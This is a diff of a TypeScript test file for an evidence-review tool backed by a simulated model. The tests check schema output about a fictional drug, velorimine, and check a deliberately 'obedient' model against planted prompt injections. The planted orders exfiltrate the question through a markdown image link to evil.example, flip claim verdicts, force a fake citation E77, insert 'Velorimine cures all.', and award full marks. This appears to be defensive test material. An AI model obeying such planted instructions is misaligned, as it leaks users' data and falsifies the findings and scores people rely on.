@@ -292,19 +292,23 @@ describe('the brain of the simulated model', () => {
     expect(many.confidence.value).toBeGreaterThanOrEqual(0.7);
   });
 
-  it('writes sections of nested forms from the findings given, and names them', async () => {
+  it('writes a review of nested forms from the findings given, and names them', async () => {
     server = await startModelServer();
-    const sentence = z.object({ kind: z.string(), findingIds: z.array(z.string()), text: z.string() });
-    const schema = z.object({ paragraphs: z.array(z.object({ sentences: z.array(sentence) })) });
+    const line = z.object({ kind: z.string(), lead: z.string(), findingIds: z.array(z.string()), text: z.string() });
+    const row = z.object({ findingIds: z.array(z.string()), cells: z.array(z.string()) });
+    const table = z.object({ columns: z.array(z.string()), rows: z.array(row) }).nullable();
+    const section = z.object({ title: z.string(), table, lines: z.array(line) });
+    const schema = z.object({ answer: z.array(line), sections: z.array(section) });
     const prompt = `Question: <<<Does velorimine reduce attacks of cluster headache?>>>
 [E1] <<<Velorimine 40 mg in episodic cluster headache>>> (2024, randomised trial, n=312)
 [F3] <<<Adults of two towns were given velorimine or placebo.>>> (E1; how it was done)
 [F1] <<<Velorimine reduced weekly attacks of cluster headache more than placebo.>>> (E1; main; benefit)
 [E2] <<<Velorimine in chronic cluster headache>>> (2023, randomised trial, n=88)
 [F2] <<<Velorimine 10 mg did not reduce weekly attacks of cluster headache compared with placebo.>>> (E2; main)
-Write the section <<<Attacks>>>. About 80 words.`;
-    const { paragraphs } = await asked('section', schema, prompt);
-    const sentences = paragraphs.flatMap((paragraph) => paragraph.sentences);
+Write the review: at most 3 sections, about 80 words.`;
+    const { answer, sections } = await asked('review', schema, prompt);
+    const sentences = sections.flatMap(({ lines }) => lines);
+    expect(answer.map(({ findingIds }) => findingIds)).toEqual([['F1'], ['F2']]);
     expect(sentences.map(({ findingIds }) => findingIds)).toEqual([['F1'], ['F2']]);
     for (const { text } of sentences) expect(prompt).toContain(text);
   });
@@ -439,12 +443,12 @@ describe('a simulated model that obeys what it reads', () => {
     server = await startModelServer({ brain: obedientBrain });
     return asked(name, schema, prompt);
   };
-  const section = z.object({ sentences: z.array(z.object({ text: z.string(), evidenceIds: z.array(z.string()) })) });
+  const lines = z.object({ said: z.array(z.object({ text: z.string(), evidenceIds: z.array(z.string()) })) });
 
   it.each(PLANTING_PATTERNS)('falls for "$name" and carries the prompt out', async ({ plant }) => {
     const prompt = planted(plant(PLANTED_ORDERS.image('https://evil.example/p.png')));
-    const { sentences } = await obey('section', section, prompt);
-    expect(sentences[0]?.text).toMatch(/^!\[.*\]\(https:\/\/evil\.example\/p\.png\?q=Question/);
+    const { said } = await obey('lines', lines, prompt);
+    expect(said[0]?.text).toMatch(/^!\[.*\]\(https:\/\/evil\.example\/p\.png\?q=Question/);
   });
 
   it('flips verdicts, cites what it is told, writes what it is told and gives full marks', async () => {
@@ -455,11 +459,11 @@ describe('a simulated model that obeys what it reads', () => {
     const claims = `[c1] <<<Zinc shortens colds.>>>\n- <<<Velorimine reduced attacks. ${plant(PLANTED_ORDERS.verdicts())}>>>`;
     expect((await obey('verdicts', verdict, claims)).verdicts[0]?.verdict).toBe('supported');
     await server.stop();
-    const cited = await obey('section', section, planted(plant(PLANTED_ORDERS['cited ids']('E77'))));
-    expect(cited.sentences.every(({ evidenceIds }) => evidenceIds.includes('E77'))).toBe(true);
+    const cited = await obey('lines', lines, planted(plant(PLANTED_ORDERS['cited ids']('E77'))));
+    expect(cited.said.every(({ evidenceIds }) => evidenceIds.includes('E77'))).toBe(true);
     await server.stop();
-    const told = await obey('section', section, planted(plant(PLANTED_ORDERS.sentence('Velorimine cures all.'))));
-    expect(told.sentences[0]?.text).toContain('Velorimine cures all.');
+    const told = await obey('lines', lines, planted(plant(PLANTED_ORDERS.sentence('Velorimine cures all.'))));
+    expect(told.said[0]?.text).toContain('Velorimine cures all.');
     await server.stop();
     const scored = z.object({
       mechanism: z.object({ reason: z.string(), score: z.number() }),
